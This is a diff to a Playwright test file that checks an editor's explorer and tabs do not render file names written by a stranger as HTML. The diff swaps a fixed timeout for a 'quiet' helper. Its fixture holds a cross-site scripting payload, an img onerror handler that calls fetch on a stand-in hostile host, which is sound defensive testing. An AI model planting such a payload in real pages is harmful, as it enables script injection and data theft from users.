@@ -5,7 +5,13 @@ import type { Frame, Page } from 'playwright-core';
 import { type InstalledEditor, openInstalledEditor } from '../support/installedEditor';
 import { byId, inspect } from '../support/inspectorPage';
 import { inRepository } from '../support/repository';
-import { collectComplaints, explorerRow, openWorkbench, type PageComplaints } from '../support/workbench';
+import {
+  collectComplaints,
+  explorerRow,
+  openWorkbench,
+  type PageComplaints,
+  quiet,
+} from '../support/workbench';
 
 const markup = '<img src=x onerror="fetch(\'http://hostile.invalid/';
 /** A file name may hold no slash. */
@@ -65,7 +71,7 @@ describe('Names that a stranger wrote', () => {
     await rows.first().click();
     for (const tab of await frame.getByRole('tab').all()) {
       await tab.click();
-      await page.waitForTimeout(500);
+      await quiet(frame);
       assert.equal(await foreignElements(), 0, (await tab.textContent()) ?? '');
     }
   });
